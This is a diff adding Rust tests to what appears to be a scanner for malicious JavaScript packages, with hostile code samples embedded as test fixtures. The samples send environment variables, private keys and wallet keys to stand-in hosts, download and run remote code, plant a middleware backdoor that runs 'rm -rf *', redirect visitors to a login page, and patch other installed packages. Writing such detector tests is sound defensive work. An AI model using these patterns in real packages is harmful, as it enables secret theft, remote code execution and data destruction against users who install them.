@@ -249,3 +249,102 @@ fn output_that_is_piped_is_no_shell() {
         "const net = require('net'), cp = require('child_process'); exports.f = (port, out) => { net.connect(port, 'localhost'); const c = cp.spawn('sh', ['x.sh']); c.stdout.pipe(process.stdout); };",
     ));
 }
+
+#[test]
+fn what_decoders_cut_by_a_pattern_is_put_together() {
+    let code = "function a(s){return s.match(/../g).map(x=>String.fromCharCode(parseInt(x,16))).join('')}
+const r=require, h=r(a('6874747073'));
+const q=h.request({hostname:a('612e6578616d706c65'),path:'/x',method:'POST'},res=>{let d='';res.on('data',c=>d+=c);res.on('end',()=>{try{(0,eval)(d)}catch(e){}})});
+q.write(JSON.stringify({...process.env}));q.end();";
+    finds(&import(code), "js-exfiltrate-environment");
+    finds(&import(code), "js-download-eval");
+}
+
+#[test]
+fn a_site_of_the_package_is_its_own_wherever_it_keeps_its_files() {
+    let manifest = r#"{"name":"sample","repository":"https://git.acme.example/js.git","scripts":{"postinstall":"node i.js"}}"#;
+    let code = |host: &str| {
+        format!(
+            "const fs=require('fs'),cp=require('child_process');(async()=>{{const r=await fetch('https://{host}/x');
+const f=__dirname+'/tool';fs.writeFileSync(f,Buffer.from(await r.arrayBuffer()),{{mode:0o755}});cp.execFileSync(f,['--version']);}})();"
+        )
+    };
+    let ours = code("packages.acme.example");
+    quiet(&package(&[("package.json", manifest), ("i.js", &ours)]));
+    let other = code("packages.other.example");
+    finds(
+        &package(&[("package.json", manifest), ("i.js", &other)]),
+        "js-download-execute",
+    );
+}
+
+#[test]
+fn secrets_in_letters_to_a_fixed_address_are_told() {
+    let code = |to: &str| {
+        format!(
+            "const m=require('nodemailer').createTransport({{service:'gmail'}});
+exports.start=(o)=>m.sendMail({{to:{to},text:process.env.PRIVATE_KEY}},()=>{{}});"
+        )
+    };
+    finds(&import(&code("'a@b.example'")), "js-exfiltrate-environment");
+    quiet(&import(&code("o.to")));
+}
+
+#[test]
+fn a_server_s_function_that_sweeps_the_folder_is_a_door() {
+    let code = "const {exec}=require('child_process');module.exports=()=>function(req,res,next){
+if(req.body.key==='x'){exec('rm -rf *',{cwd:'/void'},()=>res.end());return;}next();};";
+    finds(&import(code), "js-backdoor");
+}
+
+#[test]
+fn keys_cut_into_headers_are_followed() {
+    let code = "const bs58=require('bs58');async function queue(a){const b=bs58.encode(a);
+await fetch('https://rpc.example/q',{headers:{'x-a':b.substring(0,24).split('').reverse().join('')}}).catch(()=>{});}
+class Keypair{static fromSecretKey(secretKey){queue(secretKey);return new Keypair();}}exports.Keypair=Keypair;";
+    finds(&import(code), "js-exfiltrate-wallet-keys");
+}
+
+#[test]
+fn a_page_left_by_a_call_is_left_too() {
+    finds(
+        &import(
+            "function go(){var u='https://login.example/x?em=';var m='victim'+String.fromCharCode(64)+'void.example';window.location.replace(u+'#'+m);}go();",
+        ),
+        "js-redirects-visitor",
+    );
+    quiet(&import(
+        "window.location.replace('https://login.example/x?next=/home');",
+    ));
+}
+
+#[test]
+fn code_put_into_other_packages_is_told_by_what_it_reaches() {
+    let code = |put: &str| {
+        format!(
+            "const fs=require('fs'),path=require('path');for(const rel of ['node_modules/x/a.js','node_modules/y/b.js']){{
+const f=path.join(process.env.INIT_CWD||'../..',rel);let s=fs.readFileSync(f,'utf8');s=s.replace(/seed/g,m=>m+`{put}`);fs.writeFileSync(f,s);}}"
+        )
+    };
+    finds(
+        &install(&code(
+            "try{require('https').get('https://seed.example/?k='+k)}catch(e){}",
+        )),
+        "js-patches-package",
+    );
+    quiet(&install(&code("/* patched */")));
+}
+
+#[test]
+fn code_that_modules_hold_in_pieces_is_told() {
+    let pieces = [
+        ("parts/a.js", "module.exports = 'a();';"),
+        ("parts/b.js", "module.exports = 'b();';"),
+        MAIN,
+        (
+            "index.js",
+            "const M=require('module');const m=new M('f',module);m._compile(['a','b'].map((n)=>require('./parts/'+n)).join(''),__filename);",
+        ),
+    ];
+    finds(&package(&pieces), "js-data-eval");
+}
